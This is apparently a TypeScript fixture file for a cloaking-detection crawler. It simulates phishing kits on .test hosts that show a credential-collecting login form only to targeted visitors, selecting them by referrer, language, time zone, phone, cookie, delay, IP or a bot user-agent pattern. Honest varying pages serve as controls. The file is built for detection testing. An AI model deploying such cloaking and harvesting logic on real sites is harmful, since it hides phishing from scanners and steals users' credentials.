// Cloaking by the visitor's context rather than by automation tells (cloaking-kits.ts has
// those): a kit shows its login form only to the visitor it targets, and a decoy, an error
// or a redirect elsewhere to everyone else. Each decides on one thing: the referrer, the
// language, the time zone, a phone, a first visit (a cookie), a visitor who stays a few
// seconds, the first visit from an address, or the request headers a bot sends. Beside
// them, honest pages that change on every visit (rotating ads, per-visit tokens and times,
// an A/B split, a mobile site on its own host) and one page an operator can switch from
// honest to cloaking, for monitors. A comparison crawl (--compare) should find cloaking on
// every kit and on none of the honest pages.
import { PNG_1x1 } from '../assets.js';
import { bytes, doc, js, page, redirect, send } from '../respond.js';
import type { Handler, RouteRequest, Scenario } from '../types.js';

export interface ContextKit {
  url: string;
  /** What the kit shows its login form to. */
  shows: string;
  /** The profiles to compare (a seed line's compare=), the targeted visitor first. */
  compare: string[];
  /** The referrer the targeted visitor arrives with, if the kit asks for one. */
  referer?: string;
  /** Where its login form posts. */
  dropHost: string;
}

const kit = (name: string, path: string, shows: string, compare: string[], referer?: string): ContextKit => ({
  url: `http://secure.${name}.test${path}`,
  shows,
  compare,
  dropHost: `drop.${name}-collect.test`,
  ...(referer ? { referer } : {}),
});

export const CONTEXT_KITS = {
  referrer: kit(
    'referrer-kit',
    '/invoice',
    'visitors who come from a webmail link',
    ['victim'],
    'http://mail.webmail-inbox.test/read?id=7',
  ),
  language: kit('language-kit', '/konto', 'German speakers (Accept-Language, server side)', [
    'desktop-chrome-de',
    'desktop-chrome-windows',
  ]),
  timezone: kit('timezone-kit', '/konto', 'browsers in the Europe/Berlin time zone', [
    'desktop-chrome-de',
    'desktop-chrome-windows',
  ]),
  mobile: kit('mobile-kit', '/parcel', 'phones (touch and a mobile user agent); desktops are sent to a news site', [
    'android',
    'desktop-chrome-windows',
  ]),
  firstVisit: kit('firstvisit-kit', '/claim', 'a first visit; the cookie it sets shows the decoy the second time', [
    'desktop-chrome-windows',
    'desktop-chrome-windows',
  ]),
  delay: kit('delay-kit', '/verify', 'a visitor still there after 3 seconds', ['victim']),
  perIp: kit('ip-kit', '/unlock', 'the first visit from an address; later ones see the decoy', ['victim']),
  header: kit(
    'header-kit',
    '/login',
    'requests without a bot-like user agent and with Accept-Language (server side); bots get 403',
    ['victim'],
  ),
} as const satisfies Record<string, ContextKit>;

/** Where the mobile kit sends a desktop: an ordinary site of its own. */
export const MOBILE_KIT_ELSEWHERE = 'http://www.parcel-news.test/';

const DECOY = '<h1>Site under construction</h1><p>Please come back later.</p>';

function loginForm(k: ContextKit): string {
  return `<h1>Sign in to continue</h1>
<form method="post" action="http://${k.dropHost}/collect.php">
  <label>Email <input name="email" type="email"></label>
  <label>Password <input name="password" type="password"></label>
  <button>Sign in</button>
</form>`;
}

const kitPage = (k: ContextKit) => page('Account', loginForm(k));
const decoyPage = page('Account', DECOY);

/** A kit that decides in the browser: `targeted` is a script expression. */
const clientSideKit = (k: ContextKit, targeted: string, before = ''): Handler =>
  page(
    'Account',
    `<main id="main">${DECOY}</main>
<script>
${before}
if (${targeted}) document.getElementById('main').innerHTML = ${JSON.stringify(loginForm(k))};
</script>`,
  );

const serverSideKit =
  (k: ContextKit, targeted: (req: RouteRequest) => boolean): Handler =>
  (req, res) =>
    (targeted(req) ? kitPage(k) : decoyPage)(req, res);

/** The user agents server-side kits turn away (the scanner's among them). */
export const BOT_AGENT = /bot|crawl|spider|headless|python|curl|wget|scan|phantom|selenium/i;

/** Addresses that have seen the per-IP kit. Real kits remember for a day; tests start over with forgetVisitors(). */
const seenAddresses = new Set<string>();

/** The per-IP kit forgets every address it has seen (a test's fresh start). */
export function forgetVisitors(): void {
  seenAddresses.clear();
}

const K = CONTEXT_KITS;
const hostOf = (k: ContextKit) => new URL(k.url).hostname;
const pathOf = (k: ContextKit) => new URL(k.url).pathname;

const KIT_HANDLERS: Record<keyof typeof CONTEXT_KITS, Handler> = {
  referrer: serverSideKit(K.referrer, (req) => /^https?:\/\/mail\./.test(String(req.headers.referer ?? ''))),
  language: serverSideKit(K.language, (req) => /^de\b/i.test(String(req.headers['accept-language'] ?? ''))),
  timezone: clientSideKit(K.timezone, "Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Berlin'"),
  mobile: clientSideKit(
    K.mobile,
    '/Android|iPhone/.test(navigator.userAgent) && navigator.maxTouchPoints > 0',
    `if (!/Android|iPhone/.test(navigator.userAgent)) location.replace(${JSON.stringify(MOBILE_KIT_ELSEWHERE)});`,
  ),
  firstVisit: (req, res) => {
    if (/(^|;\s*)visited=1/.test(String(req.headers.cookie ?? ''))) return decoyPage(req, res);
    send(res, 200, 'text/html; charset=utf-8', doc('Account', loginForm(K.firstVisit)), {
      'Set-Cookie': 'visited=1; Max-Age=86400; Path=/',
    });
  },
  delay: clientSideKit(
    K.delay,
    'false',
    `setTimeout(() => { document.getElementById('main').innerHTML = ${JSON.stringify(loginForm(K.delay))}; }, 3000);`,
  ),
  perIp: (req, res) => {
    const address = req.raw.socket.remoteAddress ?? '';
    const first = !seenAddresses.has(address);
    seenAddresses.add(address);
    (first ? kitPage(K.perIp) : decoyPage)(req, res);
  },
  header: (req, res) => {
    const ua = String(req.headers['user-agent'] ?? '');
    if (!BOT_AGENT.test(ua) && req.headers['accept-language']) return kitPage(K.header)(req, res);
    send(res, 403, 'text/html; charset=utf-8', doc('403 Forbidden', '<h1>Forbidden</h1>'));
  },
};

const kitScenarios: Scenario[] = (Object.keys(CONTEXT_KITS) as (keyof typeof CONTEXT_KITS)[]).map((name) => ({
  name: `cloak-by-${name.replace(/[A-Z]/g, (c) => `-${c.toLowerCase()}`)}`,
  seed: K[name].url,
  routes: [
    { host: hostOf(K[name]), path: pathOf(K[name]), handler: KIT_HANDLERS[name] },
    { host: K[name].dropHost, path: '/collect.php', handler: page('Thanks', '<p>Thank you.</p>') },
    ...(name === 'mobile'
      ? [
          {
            host: new URL(MOBILE_KIT_ELSEWHERE).hostname,
            path: '/',
            handler: page('Parcel News', '<h1>Parcel News</h1><p>Shipping times this week.</p>'),
          },
        ]
      : []),
  ],
}));

/** Honest pages that change on every visit, and the profiles a test compares them with. */
export const HONEST_VARYING = {
  /** An ad slot that rotates its network (an iframe, its creative's script and image) and a clock in the title. */
  ads: { url: 'http://www.daily-courier.test/', compare: ['victim'] },
  /** A login page with a fresh CSRF token, a cache-busting script URL and the server's time on every visit. */
  tokens: { url: 'http://login.honest-bank.test/', compare: ['victim'] },
  /** Half the visits see variant A, half variant B: another headline, title and script (same site). */
  abSplit: { url: 'http://www.ab-outfitters.test/', compare: ['victim'] },
  /** A phone is sent to the mobile site, a desktop stays: the same site either way. */
  responsive: { url: 'http://www.responsive-times.test/', compare: ['android', 'desktop-chrome-windows'] },
} as const;

/** Each request to a varying page counts up, so two visits in a row always differ. */
let visits = 0;
const nextVisit = () => ++visits;

const adSlot: Handler = (req, res) => {
  const n = nextVisit();
  const now = new Date().toISOString();
  page(
    `Daily Courier ${now}`,
    `<h1>Daily Courier</h1><p>Edition of visit ${n}, ${now}</p>
<iframe src="http://ads${n % 3}.rotating-ads.test/slot?n=${n}" width="300" height="250"></iframe>
<form action="/search"><input name="q"><button>Search</button></form>`,
  )(req, res);
};

const adCreative: Handler = (req, res) => {
  const host = req.host;
  page('Ad', `<img src="http://img.${host}/creative.png"><script src="http://js.${host}/creative.js"></script>`)(
    req,
    res,
  );
};

const tokens: Handler = (req, res) => {
  const n = nextVisit();
  const token = `${n.toString(16)}${Date.now().toString(16)}`;
  page(
    'Honest Bank — sign in',
    `<h1>Sign in</h1><p>Server time ${new Date().toISOString()}</p>
<form method="post" action="/session"><input type="hidden" name="csrf" value="${token}">
<label>User <input name="user"></label><label>Password <input type="password" name="password"></label><button>Sign in</button></form>
<script src="/app.js?v=${token}"></script>`,
  )(req, res);
};

/** The A/B page alternates on its own visits: on the shared count, visits to the other varying pages in between could give both of its visits the same variant. */
let abVisits = 0;
const abSplit: Handler = (req, res) => {
  const variant = ++abVisits % 2 ? 'a' : 'b';
  const headline = variant === 'a' ? 'Spring sale: 20% off tents' : 'New arrivals: ultralight packs';
  page(
    `AB Outfitters — ${headline}`,
    `<h1 class="v-${variant}">${headline}</h1><button style="background:${variant === 'a' ? '#0a0' : '#a00'}">Shop now</button>
<form action="/newsletter" method="post"><input name="email" type="email"><button>Subscribe</button></form>
<script src="/experiment-${variant}.js"></script>`,
  )(req, res);
};

const responsive: Handler = (req, res) => {
  const phone = /Android|iPhone/.test(String(req.headers['user-agent'] ?? ''));
  (phone
    ? redirect(302, 'http://m.responsive-times.test/')
    : page('Responsive Times', '<h1>Responsive Times</h1><p>Desktop edition.</p>'))(req, res);
};

const honestScenarios: Scenario[] = [
  {
    name: 'varying-ads',
    seed: HONEST_VARYING.ads.url,
    routes: [
      { host: 'www.daily-courier.test', path: '/', handler: adSlot },
      ...[0, 1, 2].flatMap((i) => [
        { host: `ads${i}.rotating-ads.test`, path: '/slot', handler: adCreative },
        { host: `img.ads${i}.rotating-ads.test`, path: '/creative.png', handler: bytes('image/png', PNG_1x1) },
        { host: `js.ads${i}.rotating-ads.test`, path: '/creative.js', handler: js('void 0;') },
      ]),
    ],
  },
  {
    name: 'varying-tokens',
    seed: HONEST_VARYING.tokens.url,
    routes: [
      { host: 'login.honest-bank.test', path: '/', handler: tokens },
      { host: 'login.honest-bank.test', path: '/app.js', handler: js("document.body.dataset.ready = '1';") },
    ],
  },
  {
    name: 'varying-ab-split',
    seed: HONEST_VARYING.abSplit.url,
    routes: [
      { host: 'www.ab-outfitters.test', path: '/', handler: abSplit },
      { host: 'www.ab-outfitters.test', path: '/experiment-a.js', handler: js("document.body.dataset.variant = 'a';") },
      { host: 'www.ab-outfitters.test', path: '/experiment-b.js', handler: js("document.body.dataset.variant = 'b';") },
    ],
  },
  {
    name: 'varying-responsive',
    seed: HONEST_VARYING.responsive.url,
    routes: [
      { host: 'www.responsive-times.test', path: '/', handler: responsive },
      {
        host: 'm.responsive-times.test',
        path: '/',
        handler: page('Responsive Times', '<h1>Responsive Times</h1><p>Mobile edition.</p>'),
      },
    ],
  },
];

/** A page an operator switches from honest to cloaking (for the monitor rule `cloaking`). */
export const SWITCHING_KIT = kit(
  'switching-kit',
  '/account',
  'once switched on, everyone but bots (server side, by user agent)',
  ['victim'],
);

let switchedOn = false;

/** Whether the switching page cloaks from now on. */
export function setSwitchingKit(on: boolean): void {
  switchedOn = on;
}

const switching: Scenario = {
  name: 'cloak-switching',
  seed: SWITCHING_KIT.url,
  routes: [
    {
      host: hostOf(SWITCHING_KIT),
      path: pathOf(SWITCHING_KIT),
      handler: (req, res) =>
        (!switchedOn || !BOT_AGENT.test(String(req.headers['user-agent'] ?? '')) ? kitPage(SWITCHING_KIT) : decoyPage)(
          req,
          res,
        ),
    },
  ],
};

export const cloakingContextScenarios: Scenario[] = [...kitScenarios, ...honestScenarios, switching];
